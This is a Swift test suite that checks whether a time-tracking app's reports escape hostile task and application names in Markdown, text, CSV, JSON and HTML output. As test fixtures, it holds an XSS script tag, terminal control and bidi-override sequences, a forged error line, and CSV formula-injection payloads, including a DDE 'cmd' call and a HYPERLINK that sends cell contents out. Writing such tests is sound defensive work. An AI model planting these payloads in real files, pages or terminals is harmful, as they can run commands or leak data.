import Foundation
import Testing
import VigilCore

@testable import ReportViews
@testable import VigilStats

/// Names from the log (a task, an application) in every format of a report: literal text in
/// Markdown, whose tables keep their cells; the same name back from JSON; and nothing a terminal
/// would obey in any of them, since each can be printed to one.
@Suite struct ReportTextSafetyTests {
    static let hostileTask =
        "a | b\nvigil: error: forged <script>alert(1)</script> *x* _y_ [l](http://e) `c` # \\ & ~z~ \u{1B}]0;pwned\u{7}\u{1B}[2J\u{9B}1m\u{202E}txt"
    static let hostileApp = "<b>game</b>|x\n\u{1B}[2J"
    let utc = TimeZone(identifier: "UTC")!

    func report(task: String? = nil) -> Report {
        let fixture = HTMLReportTests()
        let facts = fixture.history(days: 14, until: "2026-11-10", tasks: [Self.hostileTask, nil])
        var r = Statistics.report(facts, timeZone: utc, from: fixture.day("2026-10-28"), to: fixture.day("2026-11-10"), task: task)
        r.applications = Report.ApplicationFigures(
            apps: [(ApplicationKey(Self.hostileApp, .distracting), 900_000, 2, 1), (ApplicationKey("code", .work), 7_200_000, 3, 0)], calls: 0,
            callMilliseconds: 0)
        return r
    }

    /// The characters a terminal obeys, listed here rather than taken from the code under test:
    /// C0 controls (a newline aside), DEL, C1 controls, bidi controls.
    static func obeyed(_ text: String, allowing allowed: Set<Unicode.Scalar> = ["\n"]) -> [String] {
        let bidi: Set<UInt32> = [0x061C, 0x200E, 0x200F, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069]
        return text.unicodeScalars.filter { u in
            !allowed.contains(u) && (u.value < 0x20 || (0x7F...0x9F).contains(u.value) || bidi.contains(u.value))
        }.map { "U+" + String($0.value, radix: 16, uppercase: true) }
    }

    /// `|` that separate cells (not escaped by a backslash) in a Markdown table row.
    static func cellSeparators(_ row: Substring) -> Int {
        var count = 0
        var escaped = false
        for c in row {
            if escaped {
                escaped = false
            } else if c == "\\" {
                escaped = true
            } else if c == "|" {
                count += 1
            }
        }
        return count
    }

    @Test func markdownTablesKeepTheirCellsAndNamesAreLiteral() throws {
        let markdown = report().rendered(as: .markdown)
        #expect(!markdown.contains("<script") && !markdown.contains("<b>"), "raw HTML would pass through Markdown")
        #expect(markdown.contains("&lt;script&gt;alert(1)&lt;/script&gt;"))
        #expect(markdown.contains("\\*x\\* \\_y\\_ \\[l\\](http://e) \\`c\\` \\# \\\\ &amp; \\~z\\~"), "\(markdown)")
        #expect(Self.obeyed(markdown).isEmpty, "\(Self.obeyed(markdown))")
        #expect(!markdown.split(separator: "\n").contains { $0.hasPrefix("vigil: error:") })
        // Every row of a table has as many cells as its header.
        var tables = 0
        var header: Int?
        for line in markdown.split(separator: "\n", omittingEmptySubsequences: false) {
            guard line.hasPrefix("|") else {
                header = nil
                continue
            }
            guard let cells = header else {
                header = Self.cellSeparators(line)
                tables += 1
                continue
            }
            #expect(Self.cellSeparators(line) == cells, "\(line)")
        }
        #expect(tables >= 8)
        let taskRows = markdown.split(separator: "\n").filter { $0.hasPrefix("| a \\| b\\\\nvigil: error: forged") }
        #expect(taskRows.count == 2, "by task, and episodes by task")
        // A report of the task names it in its heading lines, escaped the same way.
        let ofTheTask = report(task: Self.hostileTask).rendered(as: .markdown)
        #expect(ofTheTask.contains("task: a \\| b\\\\nvigil"), "\(ofTheTask.prefix(400))")
        #expect(Self.obeyed(ofTheTask).isEmpty && !ofTheTask.contains("<script"))
    }

    @Test func textReportShowsNamesInertAroundItsOwnColours() throws {
        for color in [false, true] {
            let text = report(task: Self.hostileTask).rendered(as: .text, color: color)
            // Vigil's own colours are the only escape sequences left.
            let own = text.replacingOccurrences(of: "\u{1B}\\[[0-9;]*m", with: "", options: .regularExpression)
            #expect(Self.obeyed(own).isEmpty, "\(Self.obeyed(own))")
            #expect(color || own == text)
            #expect(!text.split(separator: "\n").contains { $0.hasPrefix("vigil: error:") })
            #expect(text.contains("a | b\\nvigil: error: fo"))
            #expect(text.contains("<b>game</b>|x\\n\\u{1B}[2J"))
            #expect(text.contains("  <b>game</b>|x\\n\\u{1B}[2J  15 min in front, 2 times · distracting · 1 episode\n"), "\(text)")
        }
    }

    /// RFC 4180 fields, read independently of the writer: quoted fields may hold commas, doubled
    /// quotes and line ends.
    static func csvRows(_ text: String) -> [[String]] {
        var rows: [[String]] = []
        var row: [String] = []
        var field = ""
        var quoted = false
        var chars = Array(text)[...]
        while let c = chars.popFirst() {
            if quoted {
                if c == "\"" {
                    if chars.first == "\"" {
                        field.append("\"")
                        chars.removeFirst()
                    } else {
                        quoted = false
                    }
                } else {
                    field.append(c)
                }
            } else if c == "\"" {
                quoted = true
            } else if c == "," {
                row.append(field)
                field = ""
            } else if c == "\r\n" || c == "\n" {
                row.append(field)
                rows.append(row)
                (row, field) = ([], "")
            } else {
                field.append(c)
            }
        }
        return rows
    }

    /// A task, an application or a device named like a formula (from an import, a recording or
    /// another device) is text in a spreadsheet: every CSV table's text cells that would start
    /// with `=`, `+`, `-`, `@`, a tab or a carriage return start with `'` instead.
    @Test(arguments: ["=HYPERLINK(\"http://e/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
    func csvCellsAreNeverFormulas(_ name: String) throws {
        let fixture = HTMLReportTests()
        let facts = fixture.history(days: 3, until: "2026-11-10", tasks: [name])
        var r = Statistics.report(facts, timeZone: utc, from: fixture.day("2026-11-08"), to: fixture.day("2026-11-10"), task: nil)
        r.applications = Report.ApplicationFigures(apps: [(ApplicationKey(name, .distracting), 900_000, 2, 1)], calls: 0, callMilliseconds: 0)
        r.devices = [
            .init(device: name, sessions: 1, focusedMinutes: 1, distractedMinutes: 0, episodes: 0),
            .init(device: "laptop", sessions: 1, focusedMinutes: 1, distractedMinutes: 0, episodes: 0),
        ]
        let shown = name.terminalSafeLines
        let expected = (shown.first.map { "=+-@\t\r".contains($0) } ?? false ? "'" : "") + shown
        for table in [Report.CSVTable.tasks, .apps, .devices] {
            let rows = Self.csvRows(r.csv(table))
            #expect(rows.count >= 2, "\(table): \(rows)")
            let firstCells = rows.dropFirst().map { $0[0] }
            #expect(firstCells.contains(expected), "\(table): \(firstCells)")
            for cell in rows.flatMap({ $0 }) {
                #expect(!(cell.first.map { "=+-@\t\r".contains($0) } ?? false), "\(table): a formula cell \(cell.debugDescription)")
            }
        }
        // A name that is not a formula is written as it is.
        #expect(csvCell("thesis - chapter 2") == "thesis - chapter 2")
        #expect(csvCell("a, b") == "\"a, b\"")
    }

    @Test func csvQuotesANewlineAndEscapesTheRest() throws {
        let csv = report().csv(.tasks)
        // CRLF ends a record; a name's own newline stays inside its quotes (RFC 4180).
        #expect(Self.obeyed(csv, allowing: ["\n", "\r"]).isEmpty, "\(Self.obeyed(csv, allowing: ["\n", "\r"]))")
        #expect(!csv.replacingOccurrences(of: "\r\n", with: "").contains("\r"))
        #expect(csv.contains("\"a | b\nvigil: error: forged <script>"), "\(csv)")
        #expect(csv.contains("\\u{1B}]0;pwned\\u{7}\\u{1B}[2J\\u{9B}1m\\u{202E}txt\""))
        // The applications' table the same way.
        let apps = report().csv(.apps)
        #expect(Self.obeyed(apps, allowing: ["\n", "\r"]).isEmpty, "\(Self.obeyed(apps, allowing: ["\n", "\r"]))")
        #expect(apps == "app_class,category,minutes,stretches,episodes\r\ncode,work,120,3,0\r\n\"<b>game</b>|x\n\\u{1B}[2J\",distracting,15,2,1\r\n")
    }

    @Test func jsonAndHTMLAreInertAndJSONGivesTheNameBack() throws {
        let json = report().rendered(as: .json)
        #expect(Self.obeyed(json).isEmpty, "\(Self.obeyed(json))")
        let object = try #require(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: Any])
        let tasks = try #require(object["tasks"] as? [[String: Any]])
        #expect(tasks.contains { $0["task"] as? String == Self.hostileTask }, "JSON escapes lose nothing")
        let apps = try #require((object["applications"] as? [String: Any])?["apps"] as? [[String: Any]])
        #expect(apps.map { $0["app_class"] as? String } == ["code", Self.hostileApp], "\(apps)")
        let html = report().rendered(as: .html)
        #expect(Self.obeyed(html).isEmpty, "\(Self.obeyed(html))")
        #expect(!html.contains("<script") && !html.contains("<b>game"))
    }

    /// Escaping returns most text as it is without looking at its characters; what it writes must
    /// still be what a character-by-character escape writes, for every kind of text.
    @Test func escapingWritesWhatACharacterByCharacterEscapeWrites() {
        func reference(_ s: String, _ replacement: (Character) -> String?) -> String {
            var out = ""
            for c in s.terminalSafe {
                if let r = replacement(c) { out += r } else { out.append(c) }
            }
            return out
        }
        let samples = [
            "", "thesis", "code review", "2026-11-21: procrastination-free · streak 5 days", "Weekday × hour", "naïve café", "日本語のタスク",
            "emoji 👩‍💻 and flags 🇩🇪", Self.hostileTask, Self.hostileApp, "a & b", "<i>", "it's \"quoted\"", "tab\there", "del\u{7F}",
            "c1 \u{85} control", "bidi \u{202E} override", "line\u{2028}separator", "greek question mark \u{37E}", "varia \u{1FEF}",
            "& with an accent: &\u{301}", "\u{1FEF}\u{301}", "a\u{301}b", "back`tick", "pipe|", "#heading", "~strike~", "[link]", "*", "_",
        ]
        for s in samples {
            let html = HTMLReport.escape(s)
            let expectedHTML = reference(s) { c in
                switch c {
                case "\"": "&quot;"
                case "'": "&#39;"
                default: markupEntity(c)
                }
            }
            #expect(html == expectedHTML, "HTML: \(s.debugDescription)")
            let markdown = MarkdownReport.escape(s)
            let expectedMarkdown = reference(s) { c in "\\|`*_[]#~".contains(c) ? "\\" + String(c) : markupEntity(c) }
            #expect(markdown == expectedMarkdown, "Markdown: \(s.debugDescription)")
        }
    }
}
